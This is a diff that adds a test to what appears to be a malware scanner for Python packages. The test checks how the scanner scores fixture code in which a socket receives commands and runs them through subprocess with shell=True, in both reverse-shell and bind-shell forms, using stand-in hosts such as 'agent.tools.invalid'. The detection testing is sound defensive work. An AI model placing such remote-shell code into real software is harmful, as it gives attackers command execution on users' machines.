@@ -522,3 +522,40 @@ test('a line of its own that sums received numbers is no program that was receiv
   ]);
   expect(await of("'%s' % (parts['ok'] + parts['failed'])")).toMatchObject([{ class: 'malware', score: 9 }]);
 });
+
+test('an agent that its caller points at a server is held, one that knows its server, or listens, is refused', async () => {
+  const of = (lines: readonly string[]): Promise<readonly Finding[]> =>
+    inspect(
+      'remote-code',
+      wheel({
+        'pkg/agent.py': python(
+          'import os, socket, subprocess',
+          'def serve(s):',
+          '    subprocess.run(s.recv(1024).decode(), shell=True)',
+          ...lines,
+        ),
+      }),
+    );
+
+  expect(
+    await of(['def agent(host, port):', '    s = socket.socket()', '    s.connect((host, port))', '    serve(s)']),
+  ).toMatchObject([{ class: 'malware', score: 6, context: 'call' }]);
+  for (const lines of [
+    ['def agent():', '    s = socket.socket()', "    s.connect(('agent.tools.invalid', 4000))", '    serve(s)'],
+    [
+      'def agent(host, port):',
+      '    s = socket.socket()',
+      '    s.connect((host, port))',
+      '    serve(s)',
+      "agent('a.tools.invalid', 1)",
+    ],
+    [
+      'def agent():',
+      '    s = socket.socket()',
+      "    s.connect((os.environ.get('H', 'agent.tools.invalid'), 4000))",
+      '    serve(s)',
+    ],
+    ['def agent(port):', '    s = socket.socket()', "    s.bind(('', port))", '    serve(s.accept()[0])'],
+  ])
+    expect(await of(lines)).toContainEqual(expect.objectContaining({ class: 'malware', score: 10 }));
+});
